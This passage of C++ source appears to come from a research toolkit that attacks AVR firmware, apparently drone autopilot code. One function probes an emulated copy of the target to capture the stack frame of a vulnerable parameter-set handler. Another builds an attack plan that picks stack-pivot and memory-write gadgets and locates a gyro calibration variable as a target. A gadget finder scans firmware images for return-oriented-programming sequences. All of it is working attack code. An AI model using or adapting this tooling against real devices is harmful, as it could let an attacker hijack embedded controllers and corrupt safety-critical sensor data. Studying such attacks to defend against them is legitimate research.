    for (unsigned r = 0; r < 32; ++r) {
      frame.regs_at_entry[r] = cpu.reg(r);
    }
    for (unsigned i = 0; i < 3; ++i) {
      frame.ret_bytes[i] = cpu.data().raw(frame.p + 1 + i);
    }
  });
  replica.run_cycles(3'000'000);
  replica.set_trace_hook(nullptr);
  MAVR_REQUIRE(captured, "probe never reached the vulnerable handler");
  frame.buffer_addr = static_cast<std::uint16_t>(frame.p - frame_bytes - 1);
  frame.ram_end = static_cast<std::uint16_t>(replica.cpu().spec().ramend());
  return frame;
}

AttackPlan analyze(const toolchain::Image& stock_image) {
  AttackPlan plan;
  GadgetFinder finder(stock_image);
  plan.census = finder.census();
  MAVR_REQUIRE(!finder.stk_moves().empty(), "no stk_move gadget found");
  MAVR_REQUIRE(!finder.write_mems().empty(), "no write_mem gadget found");

  // Prefer a stk_move with few pops: less stack to repair on the way out.
  plan.stk = finder.stk_moves().front();
  for (const StkMoveGadget& g : finder.stk_moves()) {
    if (g.pops.size() < plan.stk.pops.size()) plan.stk = g;
  }
  plan.wm = finder.write_mems().front();

  const toolchain::Symbol* handler = stock_image.find("h_param_set");
  MAVR_REQUIRE(handler != nullptr, "vulnerable handler symbol missing");
  const std::uint16_t frame_bytes =
      parse_frame_bytes(stock_image, handler->addr);
  MAVR_REQUIRE(frame_bytes > 8, "handler frame parse failed");
  plan.frame = probe_victim(stock_image, handler->addr, frame_bytes);

  if (const toolchain::DataSymbol* cal = stock_image.find_data("g_gyro_cal")) {
    plan.gyro_cal_addr = cal->ram_addr;
  }
  return plan;
}

}  // namespace mavr::attack
