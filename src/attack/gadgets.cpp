#include "attack/gadgets.hpp"

#include <algorithm>

#include "avr/decode.hpp"
#include "avr/mcu.hpp"
#include "support/bytes.hpp"

namespace mavr::attack {

using avr::Instr;
using avr::Op;

const char* gadget_kind_name(GadgetKind kind) {
  switch (kind) {
    case GadgetKind::kRet: return "ret";
    case GadgetKind::kStkMove: return "stk_move";
    case GadgetKind::kWriteMem: return "write_mem";
  }
  return "?";
}

GadgetFinder::GadgetFinder(std::span<const std::uint8_t> image,
                           std::uint32_t text_end) {
  scan(image, text_end);
}

void GadgetFinder::scan(std::span<const std::uint8_t> image,
                        std::uint32_t text_end) {
  // Linear sweep. AVR's two-byte alignment makes this reliable: unlike
  // x86 there are no overlapping instruction streams at odd offsets.
  std::vector<Instr> instrs;
  std::vector<std::uint32_t> addrs;
  std::uint32_t pos = 0;
  const std::uint32_t limit = std::min<std::uint32_t>(
      text_end, static_cast<std::uint32_t>(image.size()));
  while (pos + 2 <= limit) {
    const std::uint16_t w1 = support::load_u16_le(image, pos);
    const std::uint16_t w2 =
        (pos + 4 <= limit) ? support::load_u16_le(image, pos + 2) : 0;
    const Instr in = avr::decode(w1, w2);
    instrs.push_back(in);
    addrs.push_back(pos);
    pos += in.size_words * 2;
  }

  const auto pops_before_ret = [&](std::size_t ret_idx,
                                   std::size_t first) {
    // Collect the pop registers in [first, ret_idx) — all must be pops.
    std::vector<std::uint8_t> pops;
    for (std::size_t i = first; i < ret_idx; ++i) {
      if (instrs[i].op != Op::Pop) return std::vector<std::uint8_t>{};
      pops.push_back(instrs[i].rd);
    }
    return pops;
  };

  for (std::size_t i = 0; i < instrs.size(); ++i) {
    if (instrs[i].op != Op::Ret) continue;
    ++census_.ret_gadgets;

    // Walk backwards over the contiguous pop run preceding this ret.
    std::size_t first_pop = i;
    while (first_pop > 0 && instrs[first_pop - 1].op == Op::Pop) --first_pop;
    const std::size_t n_pops = i - first_pop;
    if (n_pops >= 4) ++census_.pop_chain_gadgets;
    sites_.push_back({addrs[i], GadgetKind::kRet,
                      static_cast<std::uint8_t>(std::min<std::size_t>(
                          n_pops, 255))});

    // stk_move: out SPL,r28 ; [pops] ; ret — preceded by out SREG and
    // out SPH (paper Fig. 4). Entry is at the out SPH.
    if (n_pops >= 1 && first_pop >= 3) {
      const Instr& o3 = instrs[first_pop - 1];  // out 0x3d, r28
      const Instr& o2 = instrs[first_pop - 2];  // out 0x3f, r0
      const Instr& o1 = instrs[first_pop - 3];  // out 0x3e, r29
      if (o3.op == Op::Out && o3.k == avr::kIoSpl && o3.rd == 28 &&
          o2.op == Op::Out && o2.k == avr::kIoSreg &&
          o1.op == Op::Out && o1.k == avr::kIoSph && o1.rd == 29) {
        StkMoveGadget g;
        g.entry_byte_addr = addrs[first_pop - 3];
        g.pops = pops_before_ret(i, first_pop);
        sites_.push_back({g.entry_byte_addr, GadgetKind::kStkMove,
                          static_cast<std::uint8_t>(
                              std::min<std::size_t>(g.pops.size(), 255))});
        stk_moves_.push_back(std::move(g));
        ++census_.stk_move_gadgets;
      }
    }

    // write_mem: std Y+1,r5 ; std Y+2,r6 ; std Y+3,r7 ; pops ; ret
    // (paper Fig. 5). Requires the pop run to reload Y and r5..r7 so the
    // gadget can be chained.
    if (n_pops >= 5 && first_pop >= 3) {
      const Instr& s1 = instrs[first_pop - 3];
      const Instr& s2 = instrs[first_pop - 2];
      const Instr& s3 = instrs[first_pop - 1];
      const auto is_std = [](const Instr& in, std::uint16_t q,
                             std::uint8_t reg) {
        return in.op == Op::StdY && in.k == q && in.rd == reg;
      };
      if (is_std(s1, 1, 5) && is_std(s2, 2, 6) && is_std(s3, 3, 7)) {
        std::vector<std::uint8_t> pops = pops_before_ret(i, first_pop);
        const auto has = [&](std::uint8_t r) {
          for (std::uint8_t p : pops) {
            if (p == r) return true;
          }
          return false;
        };
        if (has(28) && has(29) && has(5) && has(6) && has(7)) {
          WriteMemGadget g;
          g.store_entry_byte_addr = addrs[first_pop - 3];
          g.pop_entry_byte_addr = addrs[first_pop];
          g.pops = std::move(pops);
          sites_.push_back({g.store_entry_byte_addr, GadgetKind::kWriteMem,
                            static_cast<std::uint8_t>(
                                std::min<std::size_t>(g.pops.size(), 255))});
          write_mems_.push_back(std::move(g));
          ++census_.write_mem_gadgets;
        }
      }
    }
  }
  // Per-sequence emission appends the ret before its own mid-sequence
  // entries; one stable sort restores global address order.
  std::stable_sort(sites_.begin(), sites_.end(),
                   [](const GadgetSite& a, const GadgetSite& b) {
                     if (a.byte_addr != b.byte_addr)
                       return a.byte_addr < b.byte_addr;
                     return static_cast<int>(a.kind) < static_cast<int>(b.kind);
                   });
}

}  // namespace mavr::attack
